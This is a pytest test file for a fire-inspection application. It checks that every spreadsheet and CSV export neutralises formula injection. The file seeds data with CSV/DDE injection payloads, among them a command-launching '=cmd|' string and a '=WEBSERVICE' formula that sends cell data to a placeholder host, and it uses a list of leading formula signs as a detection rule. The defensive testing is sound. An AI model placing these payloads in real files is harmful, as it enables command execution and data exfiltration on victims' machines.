# SPDX-License-Identifier: MulanPSL-2.0
"""Whatever people typed, nothing that the program writes for spreadsheets is a formula, a link or another number."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from inspector_app.domain.ledger import LedgerName
from inspector_app.workspace import open_workspace
from tests.cli.conftest import Cli, chinese, cli, unit_cli
from tests.helpers.makers import an_enterprise
from tests.helpers.records import a_paper_finding, a_record, write_record

__all__ = ["chinese", "cli", "unit_cli"]  # fixtures

ATTACKS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+2", "-1-2", "@SUM(1)", "=HYPERLINK(\"http://x\",\"点\")", "＝1＋1", "－2",
    "http://example.com", "'=1", "=WEBSERVICE(\"http://x/?\"&A1)", "%0A-3+3",
)  # fmt: skip
SIGNS = tuple("=+-@\t\r\n＝＋－＠")
# Every command that writes for a spreadsheet, without the file's name at its end.
WRITERS = (
    ("enterprises", "export"),
    *(("ledger", name, kind) for name in LedgerName for kind in ("--xlsx", "--csv")),
    ("statistics", "--from", "2026-01-01", "--to", "2026-12-31", "--by", "district", "--xlsx"),
    ("report", "hazards", "--from", "2026-11-01", "--to", "2026-11-30", "--anyway", "--out"),
    ("enterprises", "triage-lists"),
    ("packs", "export", "fire_exit", "--out"),
)  # fmt: skip


@pytest.fixture
def hostile(unit_cli: Cli) -> Cli:
    """A unit whose every text is an attack."""
    ws = open_workspace(unit_cli.data_dir)
    for n, attack in enumerate(ATTACKS):
        an_enterprise(ws, n + 1, name=attack, address=attack, district=attack)
    ws.close()
    found = [
        a_paper_finding(place=attack, description=attack, measure=attack, item=None, clauses=["《消防法》第二十八条"])
        for attack in ATTACKS
    ]
    record = a_record(findings=found)
    record["enterprise"]["district"] = ATTACKS[0]
    unit_cli("inspect", write_record(unit_cli.folder, record), expect=0)
    return unit_cli


def written(cli: Cli, words: tuple[str, ...]) -> Path:
    suffix = ".csv" if "--csv" in words else ".xlsx"
    path = cli.folder / f"{'-'.join(w for w in words if w.isalpha())}{suffix}"
    cli(*words, path, expect=0)
    return path


def test_no_cell_of_any_file_is_a_formula(hostile: Cli) -> None:
    for words in WRITERS:
        path = written(hostile, words)
        texts = list(cells_of_csv(path.read_bytes()) if path.suffix == ".csv" else cells_of_xlsx(path))
        assert texts, words
        if words[:2] in (("ledger", "findings"), ("ledger", "enterprises"), ("enterprises", "export")):
            shown = {text.removeprefix("'") if path.suffix == ".csv" else text for text in texts}
            assert {"=cmd|' /C calc'!A0", "@SUM(1)", "－2"} <= shown, (words, "what was typed is there, as text")


def cells_of_xlsx(path: Path) -> Iterator[str]:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = book.read(name).decode()
                assert not re.search(r"<f[ >]", xml), name
                assert "<hyperlink" not in xml, name
            assert "externalLink" not in name
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    yield cell.value


def cells_of_csv(data: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for cell in row:
            assert not cell.startswith(SIGNS), cell
            yield cell


def test_the_readable_copy_of_a_bundle_has_no_formula(hostile: Cli) -> None:
    target = hostile.folder / "copy"
    hostile("bundle", "make", "--to", target, "--readable", expect=0)
    tables = sorted(target.rglob("*.csv"))
    assert tables
    texts = [cell for path in tables for cell in cells_of_csv(path.read_bytes())]
    assert any("=1+1" in text for text in texts)


def test_the_frozen_lists_of_a_draw_have_no_formula_and_are_verified(hostile: Cli) -> None:
    people = ("--operator", "林知远", "--supervisor", "苏晓棠", "--wanted", "3", "--name", "抽查")
    for n, attack in enumerate(ATTACKS[:4]):
        words = (f"--name={attack}", f"--certificate-no=0201120020{n}")
        hostile("officers", "add", *words, expect=0)
    hostile("draw", "freeze", *people, expect=0)
    seeded = ("--seed", "20261350308", "--source", "福彩3D第2026135期", "--witness", "赵监督")
    hostile("draw", "make", "抽查", *seeded, expect=0)
    record, lists = hostile.folder / "record.json", hostile.folder / "lists"
    hostile("draw", "record", "抽查", "--out", record, expect=0)
    hostile("draw", "lists", "抽查", "--out", lists, expect=0)
    texts = [cell for path in sorted(lists.glob("*.csv")) for cell in cells_of_csv(path.read_bytes())]
    assert {"'=1+1", "'@SUM(1)", "''=1"} <= set(texts)
    assert hostile.json("draw", "verify", record)["is_right"] is True


def test_a_register_that_is_written_reads_back_as_it_was(hostile: Cli) -> None:
    for name in ("r.xlsx", "r.csv"):
        path = hostile.folder / name
        hostile("enterprises", "export", path, expect=0)
        shown = hostile.json("enterprises", "import", path, "--preview")
        assert (shown["added"], shown["updated"], shown["skipped"]) == (0, 0, 0), shown
